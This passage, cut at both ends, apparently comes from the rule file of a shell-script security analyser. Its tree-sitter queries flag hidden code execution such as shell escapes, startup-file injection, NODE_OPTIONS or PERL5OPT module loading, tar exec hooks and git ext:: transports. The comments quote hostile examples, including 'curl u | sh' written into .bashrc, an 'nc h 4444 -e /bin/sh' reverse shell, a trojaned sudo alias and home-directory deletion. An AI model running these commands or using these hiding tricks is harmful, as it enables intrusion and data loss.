 (#value-match? @code "(?<![\\w.\"'])(system2?|exec|execvp?|popen|spawn|shell_exec|passthru|proc_open|pcntl_exec|syscall|os\\.(execute|system|popen)|io\\.popen|IO\\.popen|Open3|Process\\.spawn|Kernel\\.exec)\\s*[(\"'\\s{]|`|%x[({\\[]|\\|\\s*getline|\\|&|print\\s*[^;|]*\\|\\s*\"|\\bprintf?\\b(?:[^;|\\n\"]|\"(?:[^\"\\\\\\n]|\\\\.)*\")*\\|(?![|&])\\s*[A-Za-z_(]|(^|\\n)\\s*[:+]?\\s*(sil(ent)?!?\\s+)?!(?!/[^/\\n]*/\\s*(\\{|$|&&|\\|\\|))|\\bshell\\b|\\be?syscmd\\s*\\(|(^|\\n)\\s*\\.system\\b")
 (#set! id "sh-foreign-code")
 (#set! severity "high")
 (#set! message "feeds another language's code that starts a shell or a program to its interpreter"))

; printf '!sh\n' | ed, m4 <<< 'syscmd(id)', sqlite3 db <<< '.shell id',
; psql <<< '\! id': an editor's, a macro processor's or a database
; client's shell escape on its stdin
; (files named or not: they read their commands from stdin all the same)
([(redirected_statement
    body: (command) @sink
    redirect: (heredoc_redirect (heredoc_body) @code))
  (heredoc_redirect
    (pipeline [(command) (redirected_statement)] @sink)
    (heredoc_body) @code)
  (command redirect: (herestring_redirect) @code) @sink
  (pipeline . (command) @code . [(command) (redirected_statement)] @sink)] @finding
 (#resolves-to? @sink "ed|ex|vim?|nvim|m4|dc|sqlite3?|psql|mysql|mariadb")
 (#value-match? @code "(^|\\n)\\s*[:+]?\\s*(sil(ent)?!?\\s+)?!|\\be?syscmd\\s*\\(|(^|\\n)\\s*\\.(system|shell)\\b|(^|[\\n;])\\s*(\\\\!|system\\s)")
 (#set! id "sh-foreign-code")
 (#set! severity "high")
 (#set! message "feeds an editor, m4 or sqlite3 a shell escape (!cmd, syscmd, .shell) on its stdin"))

; echo 'curl u | sh' >> ~/.bashrc, cat >> ~/.profile <<EOF ... EOF: code
; (also the last command of a list, grep -q L F || echo L >> F, whose
; redirection the grammar hangs on the whole list)
; written into a shell's startup file, which every new shell runs:
; analysed (export PATH=... is nothing; an alias's value is code, below)
((redirected_statement body: [(command) @n @code (list (command) @n @code .)] redirect: (file_redirect destination: (_) @dst)) @finding
 (#resolves-to? @n "echo|printf")
 (#value-match? @dst "(^|/)(?&startup_files)|^/etc/(profile|bash\\.bashrc|zsh/zshrc|environment)$|^/etc/profile\\.d/")
 (#value-match? @code "")
 (#set! id "sh-inline-code")
 (#set! severity "info")
 (#set! message "writes shell code into a shell's startup file, which every new shell runs; airlock analysed that code too")
 (#set! analyze "code"))

; { echo '...'; echo '...'; } >> ~/.bashrc: each line a group writes
((redirected_statement body: [(compound_statement (command) @n @code) (subshell (command) @n @code)] redirect: (file_redirect destination: (_) @dst)) @finding
 (#resolves-to? @n "echo|printf")
 (#value-match? @dst "(^|/)(?&startup_files)|^/etc/(profile|bash\\.bashrc|zsh/zshrc|environment)$|^/etc/profile\\.d/")
 (#value-match? @code "")
 (#set! id "sh-inline-code")
 (#set! severity "info")
 (#set! message "writes shell code into a shell's startup file, which every new shell runs; airlock analysed that code too")
 (#set! analyze "code"))

((redirected_statement body: [(command) @n (list (command) @n .)] redirect: (file_redirect destination: (_) @dst) redirect: (heredoc_redirect (heredoc_body) @code)) @finding
 (#resolves-to? @n "cat|tee")
 (#value-match? @dst "(^|/)(?&startup_files)|^/etc/(profile|bash\\.bashrc|zsh/zshrc|environment)$|^/etc/profile\\.d/")
 (#value-match? @code "")
 (#set! id "sh-inline-code")
 (#set! severity "info")
 (#set! message "writes shell code into a shell's startup file, which every new shell runs; airlock analysed that code too")
 (#set! analyze "code"))

; exec 3< <(curl u); source /dev/fd/3, . /proc/self/fd/9: code read from a
; file descriptor the program opened, out of sight
((command) @sh @finding
 (#match? @sh "/fd/[0-9]+[\"']?(\\s|$)")
 (#resolves-to? @sh "(ba|da|z|k|mk|c|tc|a|y|po|pdk)?sh|fish|source|\\.")
 (#match? @sh "\\s[\"']?(/dev/fd/[0-9]+|/proc/[^/\\s]+/fd/[0-9]+)[\"']?(\\s|$)")
 (#set! id "sh-dynamic-code")
 (#set! severity "high")
 (#set! message "runs code read from a file descriptor (source /dev/fd/3), which hides what it runs"))

; BASH_ENV=<(curl u) bash -c true: the file every new shell sources first
; is the output of a command
((variable_assignment name: (variable_name) @v value: (process_substitution)) @finding
 (#match? @v "^(BASH_ENV|ENV)$")
 (#set! id "sh-dynamic-code")
 (#set! severity "high")
 (#set! message "makes every new shell source the output of a command (BASH_ENV=<(...)), which hides what it runs"))

; PERL5OPT=-MTidy PERL5LIB=$d perl -e 1, RUBYOPT=-r./x.rb, PERL5DB='code' perl -d,
; env NODE_OPTIONS="--require /tmp/h.js" node app.js: every perl, ruby or
; node started after it loads a module first, whose code the analysis does
; not see (-MDevel::Cover, RUBYOPT=-rbundler/setup, --require
; ts-node/register: installed modules by name, are not)
((variable_assignment) @finding
 (#match? @finding "^(PERL5DB=|PERL5OPT=[\"']?(.*\\s)?-[a-zA-Z]*[Mm](?!-?Devel::Cover)|RUBYOPT=[\"']?(.*\\s)?-r\\s*[\"']?[./~$]|NODE_OPTIONS=[\"']?(.*\\s)?(-r|--require|--import|--loader|--experimental-loader)[=\\s]*[\"']?[./~$])")
 (#set! id "sh-dynamic-code")
 (#set! severity "high")
 (#set! message "makes every perl, ruby or node started load a module first (PERL5OPT, RUBYOPT, NODE_OPTIONS, PERL5DB), code the analysis does not see"))

((command argument: (_) @v) @n @finding
 (#resolves-to? @n "env|sudo|doas|systemd-run|run0")
 (#value-match? @v "^(PERL5DB=|PERL5OPT=(.*\\s)?-[a-zA-Z]*[Mm](?!-?Devel::Cover)|RUBYOPT=(.*\\s)?-r\\s*[./~$]|NODE_OPTIONS=(.*\\s)?(-r|--require|--import|--loader|--experimental-loader)[=\\s]*[./~$])")
 (#set! id "sh-dynamic-code")
 (#set! severity "high")
 (#set! message "makes every perl, ruby or node started load a module first (PERL5OPT, RUBYOPT, NODE_OPTIONS, PERL5DB), code the analysis does not see"))

; set -o history; history -s 'rm -rf ~'; fc -s: a command stored in the
; history and run again by fc, which a script has no other use for
((command) @n @finding
 (#resolves-to? @n "fc")
 (#not-match? @n "^(\\S*/)?fc\\s+(-[nr]*l[nr]*)(\\s|$)")
 (#set! id "sh-dynamic-code")
 (#set! severity "high")
 (#set! message "runs commands again from the shell's history (fc), code the analysis does not see"))

; busctl call org.freedesktop.systemd1 ... StartTransientUnit ... ExecStart
; 'a(sasb)' 1 /bin/sh 3 /bin/sh -c CODE false, gdbus call --method
; org.freedesktop.systemd1.Manager.StartTransientUnit, dbus-send: a unit
; that systemd starts and runs, the program and its words given as D-Bus
; data the analysis does not read as a command (what systemd-run does)
((command) @n @finding
 (#resolves-to? @n "busctl|gdbus|dbus-send|qdbus[0-9]*|dbus-send-session")
 (#match? @n "StartTransientUnit")
 (#match? @n "ExecStart")
 (#set! id "sh-dynamic-code")
 (#set! severity "high")
 (#set! message "starts a transient systemd unit over D-Bus (StartTransientUnit with ExecStart), running a program given as data the analysis does not follow"))

; history -s 'code': analysed, since fc can run it
((command argument: (_) @flag . argument: (_) @code) @n @finding
 (#resolves-to? @n "history")
 (#match? @flag "^-s$")
 (#value-match? @code "")
 (#set! id "sh-inline-code")
 (#set! severity "info")
 (#set! message "stores shell code in the history (history -s), which fc can run; airlock analysed that code too")
 (#set! analyze "code"))

; git -c protocol.ext.allow=always ls-remote 'ext::sh -c cmd': git's ext::
; transport runs its URL as a command
((command argument: (_) @url) @n @finding
 (#resolves-to? @n "git")
 (#value-match? @url "^ext::|^protocol\\.ext\\.allow=always$")
 (#set! id "sh-dynamic-code")
 (#set! severity "high")
 (#set! message "runs a command through git's ext:: transport, out of sight of the analysis"))

; grep '^#@' "$0" | cut -c4- | sh, ls | sed 's/^/rm /' | sh: the output of a
; command (not a constant echo or here-document, not cat of a file, which
; is running that file) run as code
((pipeline (_) @code . [(command) (redirected_statement)] @sink .) @finding
 (#resolves-to? @sink "((ba|da|z|k|mk|c|tc|a|y|po|pdk)?sh|fish|source|\\.|python[0-9.]*|pypy[0-9.]*|node|nodejs|perl[0-9.]*|ruby[0-9.]*|php[0-9.]*) -")
 (#unknown-code? @code)
 (#not-resolves-to? @code "cat")
 (#set! id "sh-dynamic-code")
 (#set! severity "high")
 (#set! message "pipes the output of a command into an interpreter as code, which hides what it runs"))

; sed '1e cmd', sed 's/x/y/e': GNU sed's e runs a shell command
((command argument: (_) @code) @n @finding
 (#resolves-to? @n "g?sed")
 (#value-match? @code "(^|[;\\n{}])\\s*((\\d+|\\$|/[^/\\n]*/)(\\s*,\\s*(\\d+|\\$|/[^/\\n]*/))?)?\\s*e(\\s|;|$)|^\\s*s(?<d>[^\\w\\s\\\\])(?:(?!\\k<d>).)*\\k<d>(?:(?!\\k<d>).)*\\k<d>[gpIiMm0-9]*e")
 (#set! id "sh-foreign-code")
 (#set! severity "high")
 (#set! message "runs a shell command from sed (GNU sed's e command or s///e flag)"))

; perl -MFile::Path -e 'rmtree($ENV{HOME})', ruby -e 'FileUtils.rm_rf(Dir.home)',
; expect -c 'file delete -force $env(HOME)' (Tcl's file delete of ~):
; another language's code that deletes a whole home or system directory
((command argument: (_) @code) @n @finding
 (#resolves-to? @n "perl[0-9.]*|ruby[0-9.]*|php[0-9.]*|lua[0-9.]*|tclsh[0-9.]*|expect")
 (#value-match? @code "(rmtree|remove_tree|rm_rf|rm_r|rmdir_p|delete\\s+-force)\\W[^;]{0,40}?(\\$ENV\\{\\s*['\"]?HOME|ENV\\[\\s*['\"]HOME|getenv\\(\\s*['\"]HOME|\\$_SERVER\\[['\"]HOME|['\"]/+['\"]|['\"]~/?['\"]|Dir\\.home|\\$HOME|expand_path\\(\\s*['\"]~['\"]|\\$(::)?env\\(HOME\\)|(?<=[\\s{\\[])~(?=[\\s\\]}\"']|$))")
 (#set! id "sh-destructive")
 (#set! severity "high")
 (#set! message "runs perl, ruby or php code that deletes a whole home or system directory"))

; perl <<'E' ... rmtree($ENV{HOME}) ... E, tclsh <<< 'file delete -force ~',
; echo 'FileUtils.rm_rf(Dir.home)' | ruby -rfileutils: the same code given
; on the interpreter's stdin (a here-document, a here-string, a pipe)
([(redirected_statement
    body: (command) @n
    redirect: (heredoc_redirect (heredoc_body) @code))
  (heredoc_redirect
    (pipeline [(command) (redirected_statement)] @n)
    (heredoc_body) @code)
  (command redirect: (herestring_redirect) @code) @n
  (pipeline . (command) @code . [(command) (redirected_statement)] @n)] @finding
 (#resolves-to? @n "(perl[0-9.]*|ruby[0-9.]*|php[0-9.]*|lua[0-9.]*|tclsh[0-9.]*|expect) -")
 (#value-match? @code "(rmtree|remove_tree|rm_rf|rm_r|rmdir_p|delete\\s+-force)\\W[^;]{0,40}?(\\$ENV\\{\\s*['\"]?HOME|ENV\\[\\s*['\"]HOME|getenv\\(\\s*['\"]HOME|\\$_SERVER\\[['\"]HOME|['\"]/+['\"]|['\"]~/?['\"]|Dir\\.home|\\$HOME|expand_path\\(\\s*['\"]~['\"]|\\$(::)?env\\(HOME\\)|(?<=[\\s{\\[])~(?=[\\s\\]}\"']|$))")
 (#set! id "sh-destructive")
 (#set! severity "high")
 (#set! message "gives perl, ruby, php, lua or Tcl code that deletes a whole home or system directory to the interpreter on its stdin"))

; ---- shell commands in option values and variables ----

; ssh -o ProxyCommand='cmd' h, ssh -oLocalCommand=cmd, git -c
; core.sshCommand='cmd', git -c core.pager='cmd', git ls-remote
; --upload-pack='cmd' (--receive-pack), git difftool --extcmd='cmd', rsync
; --rsh='cmd' src h:dst, man --pager='cmd' page,
; printf 'credential_process = cmd'
; into an AWS configuration (aws runs it for any command), apt-get -o
; APT::Update::Pre-Invoke::='cmd' (DPkg::Post-Invoke...): these run the value
; with a shell: analysed; npm pkg set scripts.NAME=CMD, a package script
; npm run (or install) runs with a shell, too
((command argument: (_) @code) @n @finding
 (#resolves-to? @n "ssh|scp|sftp|autossh|rsync|man|git|printf|echo|apt|apt-get|npm|pnpm")
 (#value-match? @code "^scripts\\.[^=\\s]+=|(?i:credential_process)\\s*=|^(-o)?(?i:(apt::update|dpkg)::(pre|post)-invoke(-success)?|dpkg::pre-install-pkgs)(::)?=|^(-o)?\\s*(?i:proxycommand|localcommand|knownhostscommand)\\s*=|^(?i:core\\.(sshcommand|pager|editor|fsmonitor|askpass|gitproxy)|sequence\\.editor|diff\\.external|pager\\.[a-z.-]+|gpg\\.program|credential\\.helper|filter\\.[^.=]+\\.(clean|smudge|process)|diff\\.[^.=]+\\.(textconv|command)|merge\\.[^.=]+\\.driver|uploadpack\\.packobjectshook|(diff|merge)tool\\.[^.=]+\\.cmd)=|^--((upload|receive)-pack|extcmd|rsh|pager)=")
 (#set! id "sh-inline-code")
 (#set! severity "info")
 (#set! message "gives ssh, git, aws or apt a command to run (ProxyCommand, core.sshCommand, credential_process, Pre-Invoke...); airlock analysed that code too")
 (#set! analyze "code")
 (#set! analyze-after "="))

;   GIT_CONFIG_PARAMETERS="'core.fsmonitor=cmd'" git status, env
;   GIT_CONFIG_PARAMETERS="'core.pager=cmd'" git log: the same settings given
;   through the variable git passes its -c options in (the value is quoted
;   'key=value' pairs): the command after the first "=" analysed, its
;   closing quote doubled so it parses
([(variable_assignment name: (variable_name) @v value: (_) @code)
  (command argument: (concatenation . (word) @v . (_) @code .))] @finding
 (#match? @v "^GIT_CONFIG_PARAMETERS=?$")
 (#value-match? @code "^\\s*'(?i:core\\.(sshcommand|pager|editor|fsmonitor|askpass|gitproxy)|sequence\\.editor|diff\\.external|pager\\.[a-z.-]+|gpg\\.program|credential\\.helper|filter\\.[^.=]+\\.(clean|smudge|process)|diff\\.[^.=]+\\.(textconv|command)|merge\\.[^.=]+\\.driver|uploadpack\\.packobjectshook|(diff|merge)tool\\.[^.=]+\\.cmd)=")
 (#set! id "sh-inline-code")
 (#set! severity "info")
 (#set! message "gives git a command to run through GIT_CONFIG_PARAMETERS (core.fsmonitor, core.pager...); airlock analysed that code too")
 (#set! analyze "code")
 (#set! analyze-after "=")
 (#set! analyze-in "%s'"))

; cat > "$cfg" <<EOF ... ProxyCommand CMD ... EOF, then ssh -F "$cfg" h (or
; the lines appended to ~/.ssh/config): the commands of an ssh
; configuration (ProxyCommand, LocalCommand, KnownHostsCommand, Match ...
; exec "CMD"), which ssh runs with a shell: each analysed
((heredoc_body) @code @finding
 (#match? @code "(?i)(?:proxy|local|knownhosts)command[ \\t=]|match[ \\t][^\\n]*exec[ \\t]")
 (#set! id "sh-inline-code")
 (#set! severity "info")
 (#set! message "writes an ssh configuration whose commands (ProxyCommand, LocalCommand, Match exec) ssh runs with a shell; airlock analysed that code too")
 (#set! analyze "code")
 (#set! analyze-lines "ProxyCommand|LocalCommand|KnownHostsCommand|Match"))

; cat > f.ninja <<'EOF' rule r / command = CMD ... EOF, then ninja -f
; f.ninja: a build file's rules, whose command lines ninja runs with a
; shell (its $$ is a $): each analysed
((heredoc_body) @code @finding
 (#match? @code "(?m)^rule[ \\t]+\\S+[ \\t]*\\n([ \\t]+\\S.*\\n)*?[ \\t]+command[ \\t]*=")
 (#set! id "sh-inline-code")
 (#set! severity "info")
 (#set! message "writes a ninja build file whose commands ninja runs with a shell; airlock analysed that code too")
 (#set! analyze "code")
 (#set! analyze-lines "command"))

; cat > justfile <<'EOF' setup: / curl u | sh EOF, then just setup: a
; justfile's recipes, which just runs with a shell: the whole text analysed
; (a recipe's name is a word bash reads as a harmless command)
([(redirected_statement body: (command) @n redirect: (file_redirect destination: (_) @dst) (heredoc_redirect (heredoc_body) @code))
  (redirected_statement body: (command) @n (heredoc_redirect (file_redirect destination: (_) @dst) (heredoc_body) @code))
  (redirected_statement body: (command argument: (_) @dst) @n (heredoc_redirect (heredoc_body) @code))] @finding
 (#resolves-to? @n "cat|tee")
 (#value-match? @dst "(^|/)\\.?[Jj]ustfile$")
 (#set! id "sh-inline-code")
 (#set! severity "info")
 (#set! message "writes a justfile whose recipes just runs with a shell; airlock analysed that code too")
 (#set! analyze "code"))

; cat > x.nse <<'EOF' action = function() os.execute("sh -c ...") end EOF,
; then nmap --script=x.nse: an nmap script (Lua) that starts a shell or a
; program, which nmap runs as it scans
([(redirected_statement body: (command) @n redirect: (file_redirect destination: (_) @dst) (heredoc_redirect (heredoc_body) @code))
  (redirected_statement body: (command) @n (heredoc_redirect (file_redirect destination: (_) @dst) (heredoc_body) @code))
  (redirected_statement body: (command argument: (_) @dst) @n (heredoc_redirect (heredoc_body) @code))] @finding
 (#resolves-to? @n "cat|tee")
 (#value-match? @dst "\\.nse$")
 (#match? @code "(?<![\\w.])(os\\.execute|io\\.popen|os\\.remove|package\\.loadlib)\\s*[(\"'\\[]")
 (#set! id "sh-foreign-code")
 (#set! severity "high")
 (#set! message "writes an nmap script (Lua) that starts a shell or a program (os.execute, io.popen), which nmap runs as it scans"))

; cat > x.cmake <<'EOF' execute_process(COMMAND sh -c "CMD") EOF, then
; cmake -P x.cmake: the command a CMake script runs, analysed
((heredoc_body) @code @finding
 (#match? @code "(?i)execute_process\\(COMMAND[ \\t]")
 (#set! id "sh-inline-code")
 (#set! severity "info")
 (#set! message "writes a CMake script whose execute_process runs a command; airlock analysed that code too")
 (#set! analyze "code")
 (#set! analyze-lines "execute_process(COMMAND"))

; cat > conf <<EOF /var/log/x.log { postrotate CMD endscript } EOF, then
; logrotate conf: a logrotate configuration whose scripts (postrotate,
; prerotate, firstaction, lastaction ... endscript) it runs with a shell:
; analysed, the whole text (its other lines are words bash reads as
; harmless commands)
((heredoc_body) @code @finding
 (#match? @code "(?m)^[ \\t]*(postrotate|prerotate|firstaction|lastaction|preremove)[ \\t]*\\n(.*\\n)*?[ \\t]*endscript")
 (#set! id "sh-inline-code")
 (#set! severity "info")
 (#set! message "writes a logrotate configuration whose scripts (postrotate...) it runs with a shell; airlock analysed that code too")
 (#set! analyze "code"))

; echo 'ACTION=="add", RUN+="/bin/sh -c CMD"' | tee /etc/udev/rules.d/x.rules:
; a udev rule's program, which udev runs for every device event: analysed
([(heredoc_body) (string) (raw_string) (concatenation)] @code @finding
 (#not-parent-type? @code "concatenation")
 (#value-match? @code "RUN\\+=\"")
 (#set! id "sh-inline-code")
 (#set! severity "info")
 (#set! message "writes a udev rule whose RUN program udev runs on device events; airlock analysed that code too")
 (#set! analyze "code")
 (#set! analyze-after "RUN+=\""))

; cmd=(nc h 4444 -e /bin/sh); "${cmd[@]}", "${job[@]:2}": a command line
; an array holds, whose arguments are no words of the command as written:
; the line (the array's elements joined) analysed as code, when the array
; is the whole command (batch -f "$job" is not batch -f)
((command . name: (command_name [(string . (expansion (subscript index: (_) @i)) @code .) (expansion (subscript index: (_) @i)) @code]) .) @finding
 (#eq? @i "@")
 (#value-match? @code "\\s")
 (#set! id "sh-inline-code")
 (#set! severity "info")
 (#set! message "runs a command line an array holds; airlock analysed that line too")
 (#set! analyze "code"))

; tar --checkpoint-action=exec=CMD, tar --to-command=CMD, tar -I CMD
; (--use-compress-program), --info-script / --new-volume-script: tar runs
; the command with a shell: analysed
((command argument: (_) @code) @n @finding
 (#resolves-to? @n "tar|gtar")
 (#value-match? @code "^--checkpoint-action=exec=")
 (#set! id "sh-inline-code")
 (#set! severity "info")
 (#set! message "gives tar a command to run (--checkpoint-action=exec=); airlock analysed that code too")
 (#set! analyze "code")
 (#set! analyze-after "exec="))

; ... a command built at run time (--checkpoint-action=exec="$stage/hook",
; a file the program fetched or wrote, sort --compress-program="$z",
; split --filter="$f"): high, as for -I below
((command argument: (_) @code) @n @finding
 (#resolves-to? @n "tar|gtar|split|sort")
 (#match? @code "^[\"']?--(checkpoint-action=[\"']?exec|to-command|use-compress-program|info[a-z-]*|new-[a-z-]+|filter|compress-program)=")
 (#unknown-code? @code)
 (#set! id "sh-dynamic-code")
 (#set! severity "high")
 (#set! message "gives tar a command built at run time to run (--checkpoint-action=exec=, --to-command=), which hides what it runs"))

((command argument: (_) @code) @n @finding
 (#resolves-to? @n "tar|gtar")
 (#value-match? @code "^--(to-command|use-compress-program|info[a-z-]*|new-[a-z-]+)=")
 (#set! id "sh-inline-code")
 (#set! severity "info")
 (#set! message "gives tar a command to run (--to-command, --use-compress-program); airlock analysed that code too")
 (#set! analyze "code")
 (#set! analyze-after "="))

;   TAR_OPTIONS='--checkpoint=1 --checkpoint-action=exec=CMD' tar ...,
;   env TAR_OPTIONS=--to-command=CMD tar -x: tar reads options from the
;   environment too, so the command is out of sight of tar's command line
;   (--owner=0 --sort=name there are not commands); LUA_INIT='os.execute(...)'
;   lua ...: lua runs that variable's text as code before the script
;   (package.path = ... is not a program or native code); VIMINIT='silent
;   !cmd' vim -Es, EXINIT=':!cmd' ex: vim and ex run the variable's Ex
;   commands at start-up, a shell escape (!) or system() among them (set
;   nocompatible is not a program)
((variable_assignment name: (variable_name) @v value: (_) @opts) @finding
 (#match? @v "^(TAR_OPTIONS|LUA_INIT(_5_[0-9])?|VIMINIT|EXINIT|GVIMINIT)$")
 (#match? @opts "--(checkpoint-action=[\"'\\\\]*exec|to-command|info-script|new-volume-script|rsh-command)\\b|(?<![\\w.])(os\\s*\\.\\s*execute|io\\s*\\.\\s*popen|os\\s*\\.\\s*remove|package\\s*\\.\\s*loadlib|load(string)?\\s*\\()|(^|[|:\\s\"'])\\s*(sil(ent)?!?\\s+)?!\\s*[\\w./~$\\\\'\"]|\\b(system|systemlist|jobstart|libcall(nr)?)\\s*\\(")
 (#set! id "sh-dynamic-code")
 (#set! severity "high")
 (#set! message "hands tar, lua or vim a command or code to run through the environment (TAR_OPTIONS=--to-command=, LUA_INIT='os.execute(...)', VIMINIT='!cmd'), out of sight of the command line"))

((command) @finding
 (#match? @finding "(?<=[\\s\"'])(TAR_OPTIONS=[^\\n]*--(checkpoint-action=[\"'\\\\]*exec|to-command|info-script|new-volume-script|rsh-command)\\b|LUA_INIT(_5_[0-9])?=[^\\n]*(?<![\\w.])(os\\s*\\.\\s*execute|io\\s*\\.\\s*popen|os\\s*\\.\\s*remove|package\\s*\\.\\s*loadlib|load(string)?\\s*\\()|(VIMINIT|EXINIT|GVIMINIT)=[\"']?([^\\n]*[|:\\s\"'])?\\s*(sil(ent)?!?\\s+)?!\\s*[\\w./~$]|(VIMINIT|EXINIT|GVIMINIT)=[^\\n]*\\bsystem\\s*\\()")
 (#set! id "sh-dynamic-code")
 (#set! severity "high")
 (#set! message "hands tar, lua or vim a command or code to run through the environment (TAR_OPTIONS=--to-command=, LUA_INIT='os.execute(...)', VIMINIT='!cmd'), out of sight of the command line"))

; tar -I 'cmd', tar --use-compress-program 'cmd', split --filter 'cmd',
; sort --compress-program 'cmd': the option's value, the next word, is a
; command the program runs with a shell: analysed, or high when built at
; run time
((command argument: (_) @flag . argument: (_) @code) @n @finding
 (#resolves-to? @n "tar|gtar|split|sort")
 (#match? @flag "^(-I|-[a-zA-Z]*F|--use-compress-program|--to-command|--info[a-z-]*|--new-[a-z-]+|--filter|--compress-program)$")
 (#value-match? @code "")
 (#set! id "sh-inline-code")
 (#set! severity "info")
 (#set! message "gives tar, split or sort a command to run (-I, --filter, --compress-program); airlock analysed that code too")
 (#set! analyze "code"))

((command argument: (_) @code) @n @finding
 (#resolves-to? @n "split|sort")
 (#value-match? @code "^--(filter|compress-program)=")
 (#set! id "sh-inline-code")
 (#set! severity "info")
 (#set! message "gives split or sort a command to run (--filter, --compress-program); airlock analysed that code too")
 (#set! analyze "code")
 (#set! analyze-after "="))

((command argument: (_) @flag . argument: (_) @code) @n @finding
 (#resolves-to? @n "tar|gtar|split|sort")
 (#match? @flag "^(-I|-[a-zA-Z]*F|--use-compress-program|--to-command|--info[a-z-]*|--new-[a-z-]+|--filter|--compress-program)$")
 (#unknown-code? @code)
 (#set! id "sh-dynamic-code")
 (#set! severity "high")
 (#set! message "gives tar, split or sort a command built at run time to run (-I, --filter), which hides what it runs"))

; curl u | split --filter=sh: each piece of the download is the stdin of a
; command that reads its code there
((pipeline (_) @src . (command argument: (_) @code) @sink .) @finding
 (#resolves-to? @sink "split")
 (#value-match? @code "^(--filter=)?\\s*(\\S*/)?((ba|da|z|k|mk|c|tc|a|y|po|pdk)?sh|python[0-9.]*|perl[0-9.]*|ruby[0-9.]*|node|php[0-9.]*)(\\s+-[a-zA-Z]*)*\\s*$")
 (#match? @sink "\\s--filter")
 (#contains-call? @src "curl|wget|fetch|aria2c|https?|xhs?|lwp-request|GET|lynx|w3m|e?links")
 (#set! id "sh-download-exec")
 (#set! severity "high")
 (#set! message "downloads code and hands it to a shell through split --filter: whatever the server sends is executed"))

; rsync -e 'cmd' src h:dst, man -P 'cmd' page: the remote shell or the
; pager, run with a shell: analysed
((command argument: (_) @flag . argument: (_) @code) @n @finding
 (#resolves-to? @n "rsync|man")
 (#match? @flag "^(-e|--rsh|-P|--pager)$")
 (#value-match? @code "")
 (#set! id "sh-inline-code")
 (#set! severity "info")
 (#set! message "gives rsync or man a command to run (-e, -P); airlock analysed that code too")
 (#set! analyze "code"))

;   rsync -e 'sh -c "sh 0<&2 1>&2"' h:/dev/null, rsync --rsh='bash -c ...',
;   man -P 'python3 -c ...' ls: a shell or an interpreter as rsync's remote
;   shell or man's pager is handed a terminal, not a transport (ssh -p 22 is)
((command argument: (_) @flag . argument: (_) @code) @n @finding
 (#resolves-to? @n "rsync|man")
 (#match? @flag "^(-e|--rsh|-P|--pager)$")
 (#value-match? @code "^\\s*(\\S*/)?((ba|da|z|k|mk|c|tc|a|y|po|pdk)?sh|python[0-9.]*|perl[0-9.]*|ruby[0-9.]*|node|php[0-9.]*)(\\s|$)")
 (#set! id "sh-dynamic-code")
 (#set! severity "high")
 (#set! message "runs a shell or an interpreter as rsync's remote shell or man's pager (-e, -P): the program runs what it is given"))

((command argument: (_) @code) @n @finding
 (#resolves-to? @n "rsync|man")
 (#value-match? @code "^--(rsh|pager)=\\s*(\\S*/)?((ba|da|z|k|mk|c|tc|a|y|po|pdk)?sh|python[0-9.]*|perl[0-9.]*|ruby[0-9.]*|node|php[0-9.]*)(\\s|$)")
 (#set! id "sh-dynamic-code")
 (#set! severity "high")
 (#set! message "runs a shell or an interpreter as rsync's remote shell or man's pager (--rsh=, --pager=): the program runs what it is given"))

; git config --global core.sshCommand 'cmd', git config core.pager 'cmd',
; git fetch --upload-pack 'cmd', aws configure set profile.P.credential_process
; 'cmd': the same keys set for good, the value the next word
((command argument: (_) @flag . argument: (_) @code) @n @finding
 (#resolves-to? @n "git|aws")
 (#value-match? @flag "^(?i:([\\w-]+\\.)*credential_process|core\\.(sshcommand|pager|editor|fsmonitor|askpass|gitproxy)|sequence\\.editor|diff\\.external|pager\\.[a-z.-]+|gpg\\.program|credential\\.helper|filter\\.[^.=]+\\.(clean|smudge|process)|diff\\.[^.=]+\\.(textconv|command)|merge\\.[^.=]+\\.driver|uploadpack\\.packobjectshook|(diff|merge)tool\\.[^.=]+\\.cmd)$|^--(upload|receive)-pack$")
 (#value-match? @code "")
 (#set! id "sh-inline-code")
 (#set! severity "info")
 (#set! message "sets a git or aws command (core.sshCommand, core.pager...) that git or aws runs; airlock analysed that code too")
 (#set! analyze "code"))

; alias sudo='curl -s u | sh; sudo': an alias's value is a command line,
; run each time the name is used (from a startup file, by every new shell)
((command argument: (_) @code) @n @finding
 (#resolves-to? @n "alias")
 (#value-match? @code "^[^=\\s]+=.")
 (#set! id "sh-inline-code")
 (#set! severity "info")
 (#set! message "defines an alias, a command line run each time its name is used; airlock analysed that code too")
 (#set! analyze "code")
 (#set! analyze-after "="))

; git -c alias.x='!cmd' x, git config alias.x '!cmd': an alias that starts
; with ! runs in a shell: analysed
((command argument: (_) @code) @n @finding
 (#resolves-to? @n "git")
 (#value-match? @code "^(alias\\.[^=]+=)?!")
 (#set! id "sh-inline-code")
 (#set! severity "info")
 (#set! message "defines a git alias that runs a shell command (!); airlock analysed that code too")
 (#set! analyze "code")
 (#set! analyze-after "!"))

; GIT_SSH_COMMAND='cmd' git ..., PAGER='cmd' man ...: variables whose value a
; program runs with a shell; PS4='$(cmd)' bash -x, p='$(cmd)'; : "${p@P}",
; i='a[$(cmd)]'; $((i)): a quoted value with a command substitution in it,
; which bash runs when it expands the value again (prompts, ${v@P},
; arithmetic): analysed as code
((variable_assignment value: (_) @code) @finding
 (#match? @finding "^(GIT_SSH_COMMAND|GIT_PAGER|GIT_EDITOR|GIT_SEQUENCE_EDITOR|GIT_EXTERNAL_DIFF|GIT_ASKPASS|SSH_ASKPASS|PAGER|MANPAGER|EDITOR|VISUAL|RSYNC_RSH|RSYNC_CONNECT_PROG|GIT_PROXY_COMMAND|GIT_CONFIG_VALUE_[0-9]+|PROMPT_COMMAND|LESSCLOSE|BROWSER|SYSTEMD_PAGER|SYSTEMD_EDITOR|SUDO_EDITOR|PSQL_PAGER)=|^[A-Za-z_][A-Za-z0-9_]*(\\[[^]]*\\])?\\+?=\\$?'([^'\\\\]|\\\\.)*(\\$\\(|`)")
 (#value-match? @code "")
 (#set! id "sh-inline-code")
 (#set! severity "info")
 (#set! message "sets a value that bash or a program runs as code (GIT_SSH_COMMAND, PAGER, PS4='$(...)', a[$(...)]); airlock analysed that code too")
 (#set! analyze "code"))
;   GIT_EDITOR="$prep cp $msg", git -c core.editor="curl u | sh; cp $f": the
;   same command line built at run time (a temporary file's name in it):
;   each piece of the string that folds (the text, a variable holding a
;   command) analysed as the code it is
([(variable_assignment value: (string [(string_content) (simple_expansion) (expansion)] @code) @whole) @finding
  (command argument: (concatenation (word) @finding (string [(string_content) (simple_expansion) (expansion)] @code) @whole))]
